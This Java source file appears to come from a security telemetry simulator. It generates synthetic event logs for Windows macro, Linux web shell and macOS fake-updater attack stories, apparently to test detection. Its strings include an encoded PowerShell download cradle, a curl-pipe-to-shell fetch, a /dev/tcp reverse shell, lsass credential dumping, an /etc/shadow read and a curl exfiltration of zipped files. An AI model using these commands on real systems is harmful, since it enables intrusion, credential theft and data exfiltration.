package trailhound.samples;

import static trailhound.samples.Script.connect;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import trailhound.schema.Field;

/**
 * The attack stories embedded in the samples, one per OS (plus the receiving side of the lateral
 * movement on the domain controller). Paths here are also the ones {@link Intel} rates.
 */
final class Stories {
    static final String C2_IP = "185.141.63.120";
    static final String WIN_DROPPED_DLL = "\\AppData\\Roaming\\Microsoft\\Windows\\Templates\\wmsync.dll";
    static final String WIN_DUMPER = "C:\\ProgramData\\Microsoft\\DRM\\svcmon.exe";
    static final String PSEXEC = "C:\\ProgramData\\Microsoft\\DRM\\PsExec64.exe";
    static final String PSEXESVC = "C:\\Windows\\PSEXESVC.exe";
    static final String DC_IP = "10.10.0.10";
    static final String LINUX_ATTACKER = "91.240.118.172";
    static final String LINUX_WEBSHELL = "/var/www/html/wp-content/uploads/2026/11/.cache.php";
    static final String LINUX_PAYLOAD = "/tmp/.X11-unix/.x/kworkerd";
    static final String LINUX_PAYLOAD_SCRIPT = "/tmp/.X11-unix/.x/x.sh";
    static final String MAC_UPDATER = "/Volumes/Flash Player/Flash Player Updater.app/Contents/MacOS/Flash Player Updater";
    static final String MAC_AGENT = "/Library/Application Support/.fpupd/fpupd";
    static final String MAC_C2 = "45.141.215.30";

    private static final long S = 1_000L;
    private static final long M = 60_000L;

    private Stories() {}

    /** Office macro to C2, persistence, credential theft and PsExec to the DC, on a workstation. */
    static void windowsMacro(Script s, Simulator sim, HostSpec host, long t) {
        String u = host.user().substring(host.user().indexOf('\\') + 1);
        String home = "C:\\Users\\" + u;
        Simulator.Proc outlookProc = sim.firstLive("OUTLOOK.EXE");
        Script.Ref outlook = Script.Ref.of(outlookProc != null ? outlookProc : sim.firstLive("explorer.exe"));
        Script.Ref lsass = Script.Ref.of(sim.firstLive("lsass.exe"));
        String doc = home + "\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7XK2LQ9M\\Invoice_November_2026.docm";
        String dll = home + WIN_DROPPED_DLL;
        String office = "C:\\Program Files\\Microsoft Office\\root\\Office16\\";

        s.event(t, outlook, "file", "create", Field.FILE_PATH, doc);
        Script.Ref word = s.start(t + 40 * S, outlook, office + "WINWORD.EXE",
                "\"" + office + "WINWORD.EXE\" /n \"" + doc + "\" /o \"\"", host.user(), home + "\\Documents\\", WindowsCatalog.MS_CORP);
        s.event(t + 43 * S, word, "image", "load", Field.IMAGE_PATH, "C:\\Program Files\\Common Files\\microsoft shared\\VBA\\VBA7.1\\VBE7.DLL");
        s.event(t + 44 * S, word, "file", "create", Field.FILE_PATH,
                home + "\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7XK2LQ9M\\~$voice_November_2026.docm");

        String script = "IEX (New-Object Net.WebClient).DownloadString('http://cdn-update.azureedge-cloud.com/a.ps1')";
        String enc = Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
        Script.Ref ps = s.start(t + 52 * S, word, WindowsCatalog.S32 + "WindowsPowerShell\\v1.0\\powershell.exe",
                "powershell.exe -nop -w hidden -enc " + enc, host.user(), home + "\\Documents\\", WindowsCatalog.MS_WINDOWS);
        s.event(t + 53 * S, ps, "image", "load", Field.IMAGE_PATH,
                "C:\\Windows\\Microsoft.NET\\assembly\\GAC_MSIL\\System.Management.Automation\\v4.0_3.0.0.0__31bf3856ad364e35\\System.Management.Automation.dll");
        s.event(t + 53 * S + 400, ps, "image", "load", Field.IMAGE_PATH, WindowsCatalog.S32 + "amsi.dll");
        s.event(t + 54 * S, ps, "dns", "query", Field.DNS_QUERY, "cdn-update.azureedge-cloud.com", Field.DNS_ANSWER, C2_IP);
        s.event(t + 54 * S + 200, ps, "network", "connect", connect(host.ip(), 51_744, C2_IP, 80));
        s.event(t + 56 * S, ps, "file", "create", Field.FILE_PATH, dll);
        s.event(t + 57 * S, ps, "registry", "set_value", Field.REGISTRY_KEY, "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                Field.REGISTRY_VALUE_NAME, "WindowsSync", Field.REGISTRY_VALUE_DATA, "rundll32.exe \"" + dll + "\",DllRegisterServer");
        Script.Ref rundll = s.start(t + 58 * S, ps, WindowsCatalog.S32 + "rundll32.exe",
                "\"C:\\Windows\\System32\\rundll32.exe\" \"" + dll + "\",DllRegisterServer", host.user(), home + "\\Documents\\", WindowsCatalog.MS_WINDOWS);
        s.event(t + 58 * S + 300, rundll, "image", "load", Field.IMAGE_PATH, dll);
        s.event(t + 59 * S, rundll, "dns", "query", Field.DNS_QUERY, "sync.officeupdate-cdn.com", Field.DNS_ANSWER, C2_IP);
        s.end(t + 70 * S, ps);
        for (int i = 0; i < 36; i++) {
            long at = t + 60 * S + i * 10 * M + (i * 7_919L % 45) * S;
            s.event(at, rundll, "network", "connect", connect(host.ip(), 52_000 + i * 37, C2_IP, i % 3 == 2 ? 8443 : 443));
        }

        long r = t + 20 * M;
        Script.Ref cmd = s.start(r, rundll, WindowsCatalog.S32 + "cmd.exe",
                "C:\\Windows\\system32\\cmd.exe /c \"whoami /all & net group \"Domain Admins\" /domain & nltest /dclist:corp\"",
                host.user(), home + "\\Documents\\", WindowsCatalog.MS_WINDOWS);
        Script.Ref whoami = s.start(r + 1 * S, cmd, WindowsCatalog.S32 + "whoami.exe", "whoami  /all", host.user(), home + "\\Documents\\", WindowsCatalog.MS_WINDOWS);
        s.end(r + 2 * S, whoami);
        Script.Ref net = s.start(r + 3 * S, cmd, WindowsCatalog.S32 + "net.exe", "net  group \"Domain Admins\" /domain", host.user(), home + "\\Documents\\", WindowsCatalog.MS_WINDOWS);
        s.event(r + 3 * S + 500, net, "network", "connect", connect(host.ip(), 53_112, DC_IP, 445));
        s.end(r + 5 * S, net);
        Script.Ref nltest = s.start(r + 6 * S, cmd, WindowsCatalog.S32 + "nltest.exe", "nltest  /dclist:corp", host.user(), home + "\\Documents\\", WindowsCatalog.MS_WINDOWS);
        s.event(r + 6 * S + 400, nltest, "network", "connect", connect(host.ip(), 53_140, DC_IP, 389));
        s.end(r + 7 * S, nltest);
        s.end(r + 8 * S, cmd);

        long d = t + 35 * M;
        s.event(d, rundll, "file", "create", Field.FILE_PATH, WIN_DUMPER);
        Script.Ref dumper = s.start(d + 5 * S, rundll, WIN_DUMPER, "\"" + WIN_DUMPER + "\" privilege::debug sekurlsa::logonpasswords exit",
                host.user(), "C:\\ProgramData\\Microsoft\\DRM\\", null);
        s.event(d + 7 * S, dumper, "process", "access", Field.TARGET_PROCESS_KEY, lsass.key(), Field.TARGET_PROCESS_PATH, lsass.path(),
                Field.GRANTED_ACCESS, "0x1010");
        s.event(d + 8 * S, dumper, "file", "create", Field.FILE_PATH, "C:\\ProgramData\\Microsoft\\DRM\\dbg.log");
        s.end(d + 11 * S, dumper);

        long l = t + 50 * M;
        s.event(l, rundll, "file", "create", Field.FILE_PATH, PSEXEC);
        Script.Ref cmd2 = s.start(l + 10 * S, rundll, WindowsCatalog.S32 + "cmd.exe",
                "C:\\Windows\\system32\\cmd.exe /c " + PSEXEC + " \\\\DC-01 -accepteula -s cmd.exe /c \"whoami > C:\\Windows\\Temp\\o.txt\"",
                host.user(), "C:\\ProgramData\\Microsoft\\DRM\\", WindowsCatalog.MS_WINDOWS);
        Script.Ref psexec = s.start(l + 11 * S, cmd2, PSEXEC, PSEXEC + "  \\\\DC-01 -accepteula -s cmd.exe /c \"whoami > C:\\Windows\\Temp\\o.txt\"",
                host.user(), "C:\\ProgramData\\Microsoft\\DRM\\", WindowsCatalog.MS_CORP);
        s.event(l + 12 * S, psexec, "network", "connect", connect(host.ip(), 53_610, DC_IP, 445));
        s.event(l + 12 * S + 300, psexec, "network", "connect", connect(host.ip(), 53_611, DC_IP, 135));
        s.end(l + 30 * S, psexec);
        s.end(l + 31 * S, cmd2);
        s.end(t + 3 * 60 * M, word);

        s.story("win-macro", "Office macro to C2, credential theft and PsExec",
                "Invoice_November_2026.docm from Outlook runs a macro: WINWORD.EXE starts encoded PowerShell that downloads "
                        + "wmsync.dll, adds a Run key and starts it with rundll32.exe, which beacons to " + C2_IP + " on 443/8443, "
                        + "runs discovery, dumps lsass with svcmon.exe (access 0x1010) and runs PsExec64.exe against DC-01.",
                word, ps, rundll, cmd, dumper, cmd2, psexec);
    }

    /** The receiving side of the PsExec from the workstation, on the domain controller. */
    static void dcLateral(Script s, Simulator sim, HostSpec host, String fromIp, long t) {
        long l = t + 50 * M + 12 * S;
        Script.Ref system = Script.Ref.of(sim.firstLive("System"));
        Script.Ref lsass = Script.Ref.of(sim.firstLive("lsass.exe"));
        Script.Ref services = Script.Ref.of(sim.firstLive("services.exe"));
        s.event(l, system, "network", "accept", Field.LOCAL_IP, host.ip(), Field.LOCAL_PORT, 445, Field.REMOTE_IP, fromIp,
                Field.REMOTE_PORT, 53_610, Field.PROTOCOL, "tcp", Field.DIRECTION, "inbound");
        s.event(l + 200, lsass, "security", "logon", Field.LOGON_TYPE, "3", Field.TARGET_USER, "CORP\\mgarcia", Field.LOGON_SOURCE_IP, fromIp);
        s.event(l + 1 * S, system, "file", "create", Field.FILE_PATH, PSEXESVC);
        s.event(l + 2 * S, services, "registry", "set_value", Field.REGISTRY_KEY, "HKLM\\System\\CurrentControlSet\\Services\\PSEXESVC",
                Field.REGISTRY_VALUE_NAME, "ImagePath", Field.REGISTRY_VALUE_DATA, "%SystemRoot%\\PSEXESVC.exe");
        Script.Ref svc = s.start(l + 3 * S, services, PSEXESVC, "C:\\Windows\\PSEXESVC.exe", WindowsCatalog.SYSTEM, "C:\\Windows\\system32\\", WindowsCatalog.MS_CORP);
        Script.Ref cmd = s.start(l + 5 * S, svc, WindowsCatalog.S32 + "cmd.exe", "\"cmd.exe\" /c \"whoami > C:\\Windows\\Temp\\o.txt\"",
                WindowsCatalog.SYSTEM, "C:\\Windows\\system32\\", WindowsCatalog.MS_WINDOWS);
        Script.Ref who = s.start(l + 5 * S + 300, cmd, WindowsCatalog.S32 + "whoami.exe", "whoami", WindowsCatalog.SYSTEM, "C:\\Windows\\system32\\", WindowsCatalog.MS_WINDOWS);
        s.event(l + 5 * S + 600, cmd, "file", "create", Field.FILE_PATH, "C:\\Windows\\Temp\\o.txt");
        s.end(l + 6 * S, who);
        s.end(l + 6 * S + 200, cmd);
        s.end(l + 16 * S, svc);
        s.event(l + 17 * S, system, "file", "delete", Field.FILE_PATH, PSEXESVC);
        s.story("dc-psexec", "PsExec lateral movement from a workstation",
                "A network logon from " + fromIp + " installs the PSEXESVC service on DC-01, which runs cmd.exe as SYSTEM and writes C:\\Windows\\Temp\\o.txt.",
                svc, cmd, who);
    }

    /** Web shell to curl|sh payload, cron persistence, reverse shell and /etc/shadow read. */
    static void linuxWebShell(Script s, Simulator sim, HostSpec host, long t) {
        Script.Ref nginx = Script.Ref.of(sim.liveWithCommand("nginx", "worker"));
        Script.Ref php = Script.Ref.of(sim.liveWithCommand("php-fpm8.3", "pool"));
        String cwd = "/var/www/html/wp-content/uploads/2026/11";
        String a = LINUX_ATTACKER;
        s.event(t, nginx, "network", "accept", Field.LOCAL_IP, host.ip(), Field.LOCAL_PORT, 443, Field.REMOTE_IP, a,
                Field.REMOTE_PORT, 40_112, Field.PROTOCOL, "tcp", Field.DIRECTION, "inbound");
        s.event(t + 1 * S, php, "file", "create", Field.FILE_PATH, LINUX_WEBSHELL);
        long r = t + 4 * M;
        Script.Ref sh1 = s.start(r, php, "/usr/bin/dash", "sh -c id; uname -a", "www-data", cwd, null);
        Script.Ref id = s.start(r + 20, sh1, "/usr/bin/id", "id", "www-data", cwd, null);
        s.end(r + 40, id);
        Script.Ref uname = s.start(r + 60, sh1, "/usr/bin/uname", "uname -a", "www-data", cwd, null);
        s.end(r + 80, uname);
        s.end(r + 100, sh1);

        long p = t + 7 * M;
        Script.Ref sh2 = s.start(p, php, "/usr/bin/dash", "sh -c curl -fsSL http://" + a + "/x.sh | sh", "www-data", cwd, null);
        Script.Ref curl = s.start(p + 30, sh2, "/usr/bin/curl", "curl -fsSL http://" + a + "/x.sh", "www-data", cwd, null);
        Script.Ref sh3 = s.start(p + 35, sh2, "/usr/bin/dash", "sh", "www-data", cwd, null);
        s.event(p + 200, curl, "network", "connect", connect(host.ip(), 44_218, a, 80));
        s.end(p + 900, curl);
        s.event(p + 1_000, sh3, "file", "create", Field.FILE_PATH, LINUX_PAYLOAD_SCRIPT);
        Script.Ref wget = s.start(p + 1_200, sh3, "/usr/bin/curl", "curl -fsSL -o /tmp/.X11-unix/.x/kworkerd http://" + a + "/k", "www-data", cwd, null);
        s.event(p + 1_400, wget, "network", "connect", connect(host.ip(), 44_230, a, 80));
        s.event(p + 2_500, wget, "file", "create", Field.FILE_PATH, LINUX_PAYLOAD);
        s.end(p + 2_600, wget);
        Script.Ref chmod = s.start(p + 2_700, sh3, "/usr/bin/chmod", "chmod +x /tmp/.X11-unix/.x/kworkerd", "www-data", cwd, null);
        s.end(p + 2_720, chmod);
        s.event(p + 2_800, sh3, "file", "create", Field.FILE_PATH, "/tmp/.X11-unix/.x/c");
        Script.Ref crontab = s.start(p + 2_900, sh3, "/usr/bin/crontab", "crontab /tmp/.X11-unix/.x/c", "www-data", cwd, null);
        s.event(p + 3_000, crontab, "file", "create", Field.FILE_PATH, "/var/spool/cron/crontabs/www-data");
        s.end(p + 3_100, crontab);
        Script.Ref payload = s.start(p + 3_300, sh3, LINUX_PAYLOAD, "/tmp/.X11-unix/.x/kworkerd -d", "www-data", "/tmp/.X11-unix/.x", null);
        s.end(p + 3_400, sh3);
        s.end(p + 3_450, sh2);
        for (int i = 0; i < 24; i++) {
            s.event(p + 5 * S + i * 15 * M, payload, "network", "connect", connect(host.ip(), 45_000 + i * 11, a, 443));
        }

        long rs = t + 15 * M;
        Script.Ref sh4 = s.start(rs, php, "/usr/bin/dash", "sh -c bash -c 'bash -i >& /dev/tcp/" + a + "/4444 0>&1'", "www-data", cwd, null);
        Script.Ref bash = s.start(rs + 30, sh4, "/usr/bin/bash", "bash -c bash -i >& /dev/tcp/" + a + "/4444 0>&1", "www-data", cwd, null);
        s.event(rs + 200, bash, "network", "connect", connect(host.ip(), 46_420, a, 4444));
        Script.Ref sudoL = s.start(rs + 40 * S, bash, "/usr/bin/sudo", "sudo -l", "www-data", cwd, null);
        s.end(rs + 41 * S, sudoL);
        Script.Ref sudo = s.start(rs + 75 * S, bash, "/usr/bin/sudo", "sudo /usr/bin/cat /etc/shadow", "root", cwd, null);
        Script.Ref cat = s.start(rs + 75 * S + 50, sudo, "/usr/bin/cat", "/usr/bin/cat /etc/shadow", "root", cwd, null);
        s.event(rs + 75 * S + 60, cat, "file", "read", Field.FILE_PATH, "/etc/shadow");
        s.end(rs + 75 * S + 80, cat);
        s.end(rs + 75 * S + 90, sudo);
        s.end(rs + 25 * M, bash);
        s.end(rs + 25 * M + 10, sh4);

        s.story("linux-webshell", "Web shell to reverse shell and /etc/shadow",
                "A PHP web shell (" + LINUX_WEBSHELL + ") run by php-fpm as www-data runs sh -c commands: curl http://" + a
                        + "/x.sh | sh drops kworkerd, a crontab persists it, a reverse shell to " + a + ":4444 uses sudo to read /etc/shadow.",
                sh1, sh2, curl, sh3, payload, crontab, sh4, bash, sudo, cat);
    }

    /** Fake Flash updater: password prompt, LaunchAgent persistence, exfiltration with curl. */
    static void macFakeUpdater(Script s, Simulator sim, HostSpec host, long t) {
        String home = "/Users/" + host.user();
        Script.Ref safari = Script.Ref.of(sim.firstLive("Safari"));
        Script.Ref launchd = Script.Ref.of(sim.firstLive("launchd"));
        String agent = home + MAC_AGENT;
        String plist = home + "/Library/LaunchAgents/com.adobe.flashplayer.update.plist";
        s.event(t, safari, "dns", "query", Field.DNS_QUERY, "get-adobe-flash.updates-center.net", Field.DNS_ANSWER, MAC_C2);
        s.event(t + 300, safari, "network", "connect", connect(host.ip(), 61_022, MAC_C2, 443));
        s.event(t + 9 * S, safari, "file", "create", Field.FILE_PATH, home + "/Downloads/FlashPlayer_Update.dmg");
        Script.Ref updater = s.start(t + 60 * S, launchd, MAC_UPDATER, "\"" + MAC_UPDATER + "\"", host.user(), "/", null);
        Script.Ref osa = s.start(t + 65 * S, updater, "/usr/bin/osascript",
                "osascript -e display dialog \"Flash Player Updater needs your password to install a helper tool.\" default answer \"\" with hidden answer with title \"Software Update\" with icon caution",
                host.user(), "/", MacCatalog.APPLE);
        s.end(t + 80 * S, osa);
        s.event(t + 82 * S, updater, "file", "create", Field.FILE_PATH, agent);
        s.event(t + 83 * S, updater, "file", "create", Field.FILE_PATH, plist);
        Script.Ref launchctl = s.start(t + 84 * S, updater, "/bin/launchctl", "launchctl load -w " + plist, host.user(), "/", MacCatalog.APPLE);
        s.end(t + 85 * S, launchctl);
        Script.Ref fpupd = s.start(t + 86 * S, launchd, agent, "\"" + agent + "\" --daemon", host.user(), "/", null);
        s.end(t + 90 * S, updater);
        for (int i = 0; i < 30; i++) {
            s.event(t + 2 * M + i * 12 * M, fpupd, "network", "connect", connect(host.ip(), 62_000 + i * 13, MAC_C2, 443));
        }
        long x = t + 30 * M + 5 * S;
        Script.Ref zsh = s.start(x, fpupd, "/bin/zsh",
                "/bin/zsh -c zip -qr /tmp/.d.zip ~/Projects/brand-2027 && curl -s -X POST -F f=@/tmp/.d.zip https://upload.files-share.io/u/8f2k1",
                host.user(), home, MacCatalog.APPLE);
        Script.Ref zip = s.start(x + 100, zsh, "/usr/bin/zip", "zip -qr /tmp/.d.zip " + home + "/Projects/brand-2027", host.user(), home, MacCatalog.APPLE);
        s.event(x + 4 * S, zip, "file", "create", Field.FILE_PATH, "/tmp/.d.zip");
        s.end(x + 9 * S, zip);
        Script.Ref curl = s.start(x + 9 * S + 100, zsh, "/usr/bin/curl", "curl -s -X POST -F f=@/tmp/.d.zip https://upload.files-share.io/u/8f2k1",
                host.user(), home, MacCatalog.APPLE);
        s.event(x + 9 * S + 200, curl, "dns", "query", Field.DNS_QUERY, "upload.files-share.io", Field.DNS_ANSWER, "104.21.55.7");
        s.event(x + 9 * S + 400, curl, "network", "connect", connect(host.ip(), 62_901, "104.21.55.7", 443));
        s.end(x + 41 * S, curl);
        s.end(x + 41 * S + 100, zsh);

        s.story("mac-fake-updater", "Fake Flash updater to LaunchAgent and exfiltration",
                "FlashPlayer_Update.dmg from Safari runs an unsigned updater that prompts for the password with osascript, installs the "
                        + "LaunchAgent com.adobe.flashplayer.update.plist for fpupd, which beacons to " + MAC_C2
                        + " and uploads a zip of ~/Projects with curl to upload.files-share.io.",
                updater, osa, launchctl, fpupd, zsh, zip, curl);
    }
}
